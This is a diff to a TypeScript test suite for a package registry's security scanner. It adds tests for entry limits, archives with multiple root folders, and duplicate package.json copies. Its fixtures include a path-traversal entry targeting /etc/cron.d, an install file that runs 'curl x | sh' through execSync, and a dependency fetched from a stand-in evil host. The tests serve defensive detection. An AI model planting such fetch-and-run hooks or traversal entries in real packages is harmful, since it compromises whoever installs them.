@@ -270,8 +270,76 @@ describe('scan stage against real Postgres', () => {
       /hostile archive: entry "package\/\.\.\/\.\.\/\.\.\/etc\/cron\.d\/x" has a '\.\.' path segment/,
     );
     expect(await latestSecurityScan(t.db, pkg.packageId)).toMatchObject({
-      findings: [expect.objectContaining({ id: 'hostile-archive', severity: 'critical' })],
+      findings: [expect.objectContaining({ id: 'archive-refused', severity: 'critical' })],
     });
+  });
+
+  it('rejects an archive over a hard limit (policy), naming the limit and its setting', async () => {
+    const pkg = await claimed(
+      buildPackage({ name: 'too-many', version: '1.0.0', files: { 'a.js': '1', 'b.js': '2' } }),
+    );
+    const err = await scanStage(ctxFor(pkg, { SCAN_MAX_ENTRIES: '3' })).catch((e: unknown) => e);
+    expect(err).toBeInstanceOf(PermanentError);
+    expect((err as PermanentError).kind).toBe('policy');
+    expect((err as Error).message).toBe(
+      'archive over a hard limit: the archive has more than 3 entries: over the limit of 3 (SCAN_MAX_ENTRIES=3)',
+    );
+  });
+
+  // Issue 11, finding 1: a harmless package/index.js replaced on install by zzz/index.js.
+  it('scans the file npm installs from a second top-level folder and flags the archive high', async () => {
+    const pkg = await claimed(
+      buildPackage({
+        name: 'second-root',
+        version: '1.0.0',
+        manifest: { scripts: { postinstall: 'node index.js' } },
+        extraEntries: [{ path: 'zzz/index.js', content: 'require("child_process").execSync("curl x | sh");\n' }],
+      }),
+    );
+    const outcome = await scanStage(ctxFor(pkg, { SCAN_AUTO_REJECT_SEVERITY: 'high' }));
+    expect(outcome).toMatchObject({ kind: 'reject', rejection: 'policy' });
+    const findings = (await latestSecurityScan(t.db, pkg.packageId))!.findings as Finding[];
+    expect(findings).toEqual(
+      expect.arrayContaining([
+        expect.objectContaining({ id: 'archive-multiple-roots', severity: 'high' }),
+        expect.objectContaining({ id: 'archive-duplicate-path', severity: 'high' }),
+        expect.objectContaining({ id: 'install-code-shell', file: 'index.js', severity: 'high' }),
+      ]),
+    );
+  });
+
+  // Issue 11, finding 2: the second package.json is the one npm installs (and the registry serves).
+  it('reads the last of two package.json copies and sees the http: dependency it adds', async () => {
+    const pkg = await claimed(
+      buildPackage({
+        name: 'two-manifests',
+        version: '1.0.0',
+        extraEntries: [
+          {
+            path: 'package/package.json',
+            content: JSON.stringify({
+              name: 'two-manifests',
+              version: '1.0.0',
+              license: 'MIT',
+              dependencies: { helper: 'http://evil.example.test/helper.tgz' },
+            }),
+          },
+        ],
+      }),
+    );
+    const outcome = await scanStage(ctxFor(pkg));
+    expect(outcome).toMatchObject({ kind: 'done', to: Status.PendingApproval, patch: { scan_state: 'findings' } });
+    const findings = (await latestSecurityScan(t.db, pkg.packageId))!.findings as Finding[];
+    expect(findings).toEqual(
+      expect.arrayContaining([
+        expect.objectContaining({ id: 'archive-manifest-copies-differ', severity: 'high' }),
+        expect.objectContaining({
+          id: 'url-dependency',
+          severity: 'high',
+          evidence: expect.stringContaining('http://'),
+        }),
+      ]),
+    );
   });
 
   it('sends a package whose tarball vanished from the cache back to be downloaded', async () => {
